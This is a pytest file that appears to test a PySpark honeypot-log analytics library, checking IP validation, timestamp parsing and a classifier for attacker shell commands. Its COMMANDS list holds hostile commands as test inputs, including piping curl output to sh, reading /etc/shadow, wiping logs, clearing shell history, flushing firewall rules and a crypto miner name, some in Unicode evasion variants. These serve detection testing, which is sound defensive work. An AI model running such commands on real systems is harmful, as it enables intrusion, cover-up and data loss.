"""Expressions against Python's own rules, on edge cases and random input."""

import ipaddress
import random
import re
from datetime import datetime

from pyspark.sql import functions as F

from trapline.functions import addresses, classify, display, numbers, times

ADDRESSES = [
    "", "x", "1.2.3.4", "01.2.3.4", "1.2.3", "1.2.3.4.5", "1.2.3.4 ", "1.2.3.4\n", "256.1.1.1", "-1.0.0.0", "1.2.3.",
    ".1.2.3", "172.15.0.1", "172.16.0.1", "172.31.255.255", "172.32.0.0", "192.0.0.9", "192.0.0.90", "192.0.0.170",
    "198.18.0.1", "198.20.0.0", "100.64.0.1", "239.1.1.1", "240.0.0.1", "255.255.255.255", "169.254.1.1",
    "::", "::1", "::2", "1::", ":::", ":1", "1:", "1::2::3", "12345::", "g::", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8:9",
    "1:2:3:4:5:6:7::", "1:2:3:4:5:6:7::8", "::ffff:8.8.8.8", "::ffff:10.0.0.1", "::FFFF:A00:1", "0::0:ffff:10.1.1.1",
    "::ffff:192.0.0.9", "fe80::1%eth0", "fe80::1%", "fe80::1%a/b", "2001:db8::1", "2001:1::1", "2001:1::0.0.0.2",
    "2001:1::3", "2001:4:112::9", "2001:1ff::", "2001:200::", "100::1:2:3:4:5:6", "100::1:2:3:4", "64:ff9b:1::5",
    "fdff::1.2.3.4", "fbff::", "febf::1", "fec0::", "1:2:3:4:5:6:1.2.3.4", "1:2:3:4:5:6::1.2.3.4", "::1.2.3.04",
]


def _random_addresses(count):
    rng = random.Random(7)
    groups = ["0", "00", "1", "2001", "db8", "fe80", "fc00", "ffff", "100", "64", "ff9b", "20", "30", "4", "112"]
    for _ in range(count):
        if rng.random() < 0.3:
            yield ".".join(str(rng.choice([0, 10, 127, 169, 172, 192, 198, 203, rng.randrange(300)])) for _ in range(4))
            continue
        parts = [rng.choice([*groups, f"{rng.randrange(65536):x}"]) for _ in range(rng.randrange(1, 9))]
        if rng.random() < 0.6:
            parts[rng.randrange(len(parts))] = ""
        text = ":" * (rng.random() < 0.3) + ":".join(parts) + ":" * (rng.random() < 0.3)
        yield text + (":10.0.0.1" if rng.random() < 0.2 else "")
    for cidr in addresses.PRIVATE_V6 + addresses.PUBLIC_HOLES_V6:
        network = ipaddress.ip_network(cidr)
        for value in (int(network[0]), int(network[-1]), int(network[-1]) + 1, int(network[0]) ^ rng.getrandbits(100)):
            address = ipaddress.IPv6Address(value)
            yield from (str(address), address.exploded)


def _address(text):
    try:
        return ipaddress.ip_address(text)
    except ValueError:
        return None


def test_addresses(spark):
    texts = [*ADDRESSES, *_random_addresses(5000)]
    frame = spark.createDataFrame([(t,) for t in texts], "ip string")
    ip = F.col("ip")
    found = addresses.with_ip_number(frame, ip, "number").select(
        "ip", addresses.is_private(ip).alias("private"), addresses.is_valid_ip(ip).alias("valid"), "number"
    )
    for row in found.collect():
        address = _address(row.ip)
        assert row.valid == (address is not None), row
        assert row.private == (address is not None and address.is_private), row
        assert row.number == (int(address) if address is not None and address.version == 4 else None), row


def test_null_address(spark):
    frame = spark.createDataFrame([(None,)], "ip string")
    row = frame.select(addresses.is_private(F.col("ip")), addresses.is_valid_ip(F.col("ip"))).first()
    assert tuple(row) == (False, False)


COMMANDS = [
    None, "", "xmrig", "./XMRIG -o", "wget  http://a", "wget\xa0http://a", "wget\x1chttp", "curl -s http://x | sh",
    "curl x\nhttp | sh", "curl -O http://a", "tftp -g", "chmod +x /tmp/a", "chmod 777 a", "./a.b ", "./a.b\n", "./a b",
    "/tmp/.x", "busybox tftp", "crontab -l", "chattr +i a", "nohup a &", "disown", "/etc/rc.local", "cat /etc/shadow",
    "a.pem", ".bash_history", "my.cnf", "a.env", "rm -rf /var/log", "rm a.log", "history -c", "unset HISTFILE",
    "unſet histfile", "iptables -F", "ufw disable", "pkill a", "KILL -9 1", "uname -a", "cat /etc/passwd", "lastb",
    "last", "whoami", "id", "idx", "w", "ws", "ıd", "İd", "ip addr", "İp addr", "netstat", "ss -l", "ps aux", "top",
    "df -h", "mount", "ls -la", "ls", "pwd", "find .", "echo hi", "K9 Kill -9", "Killall",
]


def _classified(text):
    for pattern, intent, technique in classify.COMMAND_RULES:
        if text and re.search(pattern, text, re.IGNORECASE):
            return intent, technique
    return classify.UNMATCHED


def test_classification(spark):
    rng = random.Random(5)
    words = [w for w in COMMANDS if w] + ["-c", "http", "|", "sh", "+x", "\t", "a", "ſ", "&"]
    texts = COMMANDS + [rng.choice([" ", "", "\n"]).join(rng.choices(words, k=3)) for _ in range(3000)]
    frame = spark.createDataFrame([(t,) for t in texts], "c string")
    for row in classify.with_verdict(frame, F.col("c")).collect():
        assert tuple(row.found) == _classified(row.c), row


def test_percent_rounds_like_python(spark):
    pairs = [(c, t) for t in range(0, 201) for c in range(0, t + 1)] + [(1, 3000000007), (123456789, 987654321)]
    frame = spark.createDataFrame(pairs, "c long, t long")
    for row in frame.select("c", "t", numbers.percent(F.col("c"), F.col("t")).alias("p")).collect():
        assert row.p == round(row.c / (row.t or 1) * 100, 1), row


STAMPS = [
    "2024-01-15T08:23:45.123456Z", "2024-01-15T08:23:45.123456+0000", "2024-01-15T08:23:45+05:30", "20240115T082345",
    "2024-01-15", "2024-01-15T08", "", "garbage", "2024-01-15 08:23", "2024-01-15T08:23:45.1234567", "2024-1-5 1:2:3",
    "12:30", "2024", "2024-01", " 2024-01-15 ", "2024-01-15T08:23:45,123", "2024-01-15T082345Z", "20240115",
    "2024-03-10T02:30:00Z", "2024-01-15x08", "2024-02-30T00:00:00", "2024-01-15T25:00:00", "2024-0115",
    "2024-01-15T08:23Z", "2024-01-15 08:23-08:00",
]


def _timestamp(text):
    try:
        return datetime.fromisoformat(text.replace("Z", "+00:00").replace("+0000", "+00:00")).replace(tzinfo=None)
    except ValueError:
        return None


def test_timestamps(spark):
    frame = spark.createDataFrame([(t,) for t in STAMPS], "s string")
    stamp = times.parse_timestamp(F.col("s"))
    for zone in ("UTC", "America/New_York"):
        spark.conf.set("spark.sql.session.timeZone", zone)
        try:
            found = frame.select("s", stamp.alias("t")).select(
                "s", "t", times.epoch_micros(F.col("t")).alias("m"), times.to_utc(times.to_instant(F.col("t"))).alias("u")
            )
            for row in found.collect():
                expected = _timestamp(row.s)
                assert row.t == expected == row.u, row
                if expected:
                    assert row.m == round((expected - datetime(1970, 1, 1)).total_seconds() * 1e6)
        finally:
            spark.conf.set("spark.sql.session.timeZone", "UTC")


def test_display(spark):
    row = spark.range(1).select(
        display.byte_size(F.lit(1023)).alias("b"),
        display.byte_size(F.lit(1536)).alias("k"),
        display.byte_size(F.lit(1024 * 1024 * 5 // 2)).alias("m"),
        display.byte_size(F.lit(None).cast("bigint")).alias("none"),
        display.short_event(F.lit("a.cowrie.b.cowrie.c")).alias("event"),
        display.intent_label(F.lit("data_exFil")).alias("label"),
        display.details(F.lit(""), F.lit("root"), F.lit(None).cast("string")).alias("details"),
        display.detection_band(F.lit(1), F.lit(0)).alias("no_total"),
        display.detection_band(F.lit(0), F.lit(9)).alias("clean"),
        F.size(display.json_list(F.lit("{oops"))).alias("broken"),
        addresses.mask_ip(F.lit("a:b")).alias("unmasked"),
    ).first()
    assert tuple(row) == (
        "1023 B", "1.5 KB", "2.5 MB", "—", "a.b.cowrie.c", "Data ExFil", "root:null", "unknown", "clean", 0, "a:b",
    )


def test_ip_hex_and_prefixes(spark):
    from trapline.functions.addresses import ip_hex, prefix_key

    texts = ["::", "::1", "1::", "fe80::1%eth0", "2001:DB8::a:0:1", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7::", "::2:3:4:5:6:7:8", "::ffff:1.2.3.4", "64:ff9b::10.0.255.1"]
    texts += ["1.2.3.4", "255.255.255.255", "0.0.0.0", "", "x", "1.2.3", "1:2", "1::2::3", None]
    found = spark.createDataFrame([(t,) for t in texts], "ip string").select("ip", ip_hex(F.col("ip")).alias("hex")).collect()

    def expected(text):
        try:
            address = ipaddress.ip_address((text or "").split("%")[0])
        except ValueError:
            return None
        return f"{int(address) | (0xFFFF << 32 if address.version == 4 else 0):032x}"

    assert {r.ip: r.hex for r in found} == {t: expected(t) for t in texts}
    digits = spark.createDataFrame([("20010db8ffff0000000000000000abcd",), ("20010db8fffe0000000000000000abcd",)], "hex string")
    same = {n: digits.select(prefix_key(F.col("hex"), n)).distinct().count() == 1 for n in (0, 1, 32, 46, 47, 48, 127, 128)}
    assert same == {0: True, 1: True, 32: True, 46: True, 47: True, 48: False, 127: False, 128: False}
